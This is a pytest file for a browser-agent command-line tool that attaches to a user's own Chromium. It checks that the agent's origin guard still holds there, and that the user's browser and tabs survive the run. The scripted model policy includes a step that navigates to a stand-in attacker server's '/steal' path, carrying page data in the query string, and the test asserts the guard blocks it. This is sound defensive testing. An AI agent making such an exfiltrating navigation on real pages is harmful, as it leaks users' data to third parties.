"""Attaching to a Chromium the user started (`--cdp-url`): a task runs in a context of its own, or with
`--use-open-tab` in the user's tab, under the same origin guard; the user's browser and tabs outlive
the run."""
from __future__ import annotations

import json
import socket
import subprocess
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.cli.main import main
from envs.browser import CHROMIUM_ARGS, find_chromium
from tests.agent.cli.test_user_errors import refused
from tests.pages.page_server import PageServer

PAGE = "<title>Form</title><button>Go</button>"


def script(attacker: str) -> dict:
    """Click, try to carry the page off to the attacker's server, then answer."""
    return {"policy": [{"when": "Press the button", "answer": "click('e1')"},
                       {"when": "Press the button", "answer": f"goto('{attacker}/steal?title=clicked')"},
                       {"when": "Press the button", "answer": "send_msg_to_user('done')", "repeat": True}]}


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def tabs(port: int) -> list[dict]:
    """The user's browser's tabs, asked over DevTools' own HTTP endpoint (not through Playwright)."""
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/json/list", timeout=5) as answer:
        return [t for t in json.load(answer) if t["type"] == "page"]


@pytest.fixture
def users_browser(tmp_path: Path) -> Iterator[tuple[int, subprocess.Popen]]:
    """A Chromium started as a user would, with a DevTools port and a profile folder of its own."""
    port = free_port()
    executable = find_chromium() or pytest.skip("needs Debian's Chromium")
    browser = subprocess.Popen([executable, *CHROMIUM_ARGS, "--headless", f"--remote-debugging-port={port}",
                                f"--user-data-dir={tmp_path / 'profile'}", "about:blank"],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(100):
            try:
                if tabs(port):
                    break
            except OSError:
                time.sleep(0.1)
        yield port, browser
    finally:
        browser.kill()
        browser.wait()


@pytest.mark.parametrize("open_tab", [False, True], ids=["new context", "the user's tab"])
def test_a_run_attached_to_the_users_browser_leaves_it_running(open_tab: bool, users_browser, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    port, browser = users_browser
    site, attacker = PageServer({"/": PAGE}), PageServer({"/": "<title>Elsewhere</title>"})
    answers = tmp_path / "script.json"
    answers.write_text(json.dumps(script(attacker.url)))
    try:
        code = main(["run", "--cdp-url", f"http://127.0.0.1:{port}", *(["--use-open-tab"] if open_tab else []),
                     "--url", site.url + "/", "--goal", "Press the button", "--strategy", "reactive",
                     "--model", f"scripted:{answers}", "--out", str(tmp_path / "out")])
    finally:
        site.close()
        attacker.close()
    assert attacker.hits == []  # the origin guard held in the user's browser too
    result = json.loads(next((tmp_path / "out").glob("*/result.json")).read_text())
    assert code == 0 and result["answer"] == "done", capsys.readouterr().err
    assert browser.poll() is None  # still running
    # The user's one tab is still there: as it was, or (--use-open-tab) on the page the run used.
    assert [t["url"] for t in tabs(port)] == [site.url + "/" if open_tab else "about:blank"]


def test_attaching_to_nothing_or_a_tab_without_a_browser_is_one_line(tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "s.json").write_text(json.dumps(script("http://127.0.0.1:1")))
    run = ["run", "--url", "bundled:demo", "--goal", "look", "--model", f"scripted:{tmp_path / 's.json'}",
           "--out", str(tmp_path / "o")]
    message = refused([*run, "--cdp-url", f"http://127.0.0.1:{free_port()}"], capsys)
    assert message.startswith("could not attach to the browser at --cdp-url http://127.0.0.1:")
    assert "--remote-debugging-port" in message
    assert refused([*run, "--use-open-tab"], capsys).startswith("--use-open-tab drives a tab of the browser given")
